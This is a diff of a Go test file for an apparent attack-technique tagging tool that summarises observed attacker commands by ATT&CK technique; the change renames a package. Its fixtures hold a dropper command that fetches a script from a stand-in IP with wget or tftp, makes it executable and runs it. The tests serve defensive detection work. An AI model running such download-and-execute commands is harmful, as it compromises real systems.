@@ -13,17 +13,17 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"ttpctl/internal/attack"
-	"ttpctl/internal/engine"
+	"ttpctl/internal/event"
 )
 
 // seen is a tag of the techniques table's inputs.
-func seen(tactic, technique, rule, attacker, session, at, evidence string) engine.Tag {
-	t := engine.Tag{
+func seen(tactic, technique, rule, attacker, session, at, evidence string) event.Tag {
+	t := event.Tag{
 		AttackerUUID: attacker, Tactic: tactic, RuleID: rule, ObservedAt: at,
 		Evidence: []byte(evidence), AttackRelease: "enterprise-v19.1",
 	}
 	if session != "" {
-		t.SessionID = engine.Some(session)
+		t.SessionID = event.Some(session)
 	}
 	t.Technique, _, _ = strings.Cut(technique, ".")
 	if technique != t.Technique {
@@ -32,9 +32,9 @@ func seen(tactic, technique, rule, attacker, session, at, evidence string) engin
 	return t
 }
 
-func sample() []engine.Tag {
+func sample() []event.Tag {
 	const wget = `{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh","matched":"wget http://203.0.113.9/bins.sh"}`
-	tags := []engine.Tag{
+	tags := []event.Tag{
 		seen("TA0011", "T1105", "R0018", "a1", "s1", "2026-03-18T10:26:00Z", wget),
 		seen("TA0011", "T1105", "R0017", "a2", "s2", "2026-03-18T09:00:00+02:00", `{"command_text":"later"}`),
 		seen("TA0011", "T1105", "R0018", "a1", "s3", "2026-03-19T01:02:59.9Z", wget),
@@ -82,7 +82,7 @@ func TestSummaryAttackers(t *testing.T) {
 
 // Ties have an order that does not depend on who came first.
 func TestSummaryTies(t *testing.T) {
-	tags := []engine.Tag{
+	tags := []event.Tag{
 		seen("TA0011", "T1105", "R2", "b", "", "", "{}"), seen("TA0007", "T1083", "R1", "a", "", "", "{}"),
 		seen("TA0007", "T1082", "R1", "c", "", "", "{}"), seen("TA0002", "T1083", "R1", "d", "", "", "{}"),
 	}
@@ -100,9 +100,9 @@ func TestSummaryBeyondLimit(t *testing.T) {
 	s := newSummary(nil, 2)
 	for i := range 5 {
 		name := fmt.Sprint("x", i)
-		s.Add([]engine.Tag{seen("TA0011", "T1105", "R1", name, name, "", "{}")})
+		s.Add([]event.Tag{seen("TA0011", "T1105", "R1", name, name, "", "{}")})
 	}
-	s.Add([]engine.Tag{seen("TA0007", "T1083", "R1", "x1", "x0", "", "{}")})
+	s.Add([]event.Tag{seen("TA0007", "T1083", "R1", "x1", "x0", "", "{}")})
 	got := s.Techniques()
 	if more := (Count{2, true}); got[0].Attackers != more || got[0].Sessions != more {
 		t.Errorf("T1105: attackers %v, sessions %v, want %v", got[0].Attackers, got[0].Sessions, more)
@@ -122,7 +122,7 @@ func TestSummaryMemory(t *testing.T) {
 	}
 	before := heap()
 	s := NewSummary(nil)
-	tag := []engine.Tag{seen("TA0011", "T1105", "R0018", "", "s", "2026-03-18T10:26:00Z", `{"matched":"x"}`)}
+	tag := []event.Tag{seen("TA0011", "T1105", "R0018", "", "s", "2026-03-18T10:26:00Z", `{"matched":"x"}`)}
 	for i := range 1_000_000 {
 		tag[0].AttackerUUID = fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", i)
 		tag[0].SessionID.Value = tag[0].AttackerUUID
@@ -219,7 +219,7 @@ TAGS  TECHNIQUE  NAME                   TACTIC               ATTACKERS  SESSIONS
    1  T1105      Ingress Tool Transfer  Command and Control          1         1  2026-03-18 10:26  2026-03-18 10:26  R0018
       cd /tmp; wget http://203.0.113.9/x.sh
 `
-	got := write(t, "table", Options{}, nil, []engine.Tag{download()})
+	got := write(t, "table", Options{}, nil, []event.Tag{download()})
 	if diff := cmp.Diff(want[1:], got); diff != "" {
 		t.Errorf("table of one attacker (-want +got):\n%s", diff)
 	}
@@ -263,7 +263,7 @@ func TestSummaryTextFits(t *testing.T) {
 }
 
 func TestUnknownTechnique(t *testing.T) {
-	got := write(t, "table", Options{}, nil, []engine.Tag{seen("TA9999", "T9999.001", "X0001", "", "", "", "{}")})
+	got := write(t, "table", Options{}, nil, []event.Tag{seen("TA9999", "T9999.001", "X0001", "", "", "", "{}")})
 	for _, want := range []string{"T9999.001", "TA9999", "X0001"} {
 		if !strings.Contains(got, want) {
 			t.Errorf("table of an unknown technique lacks %s:\n%s", want, got)
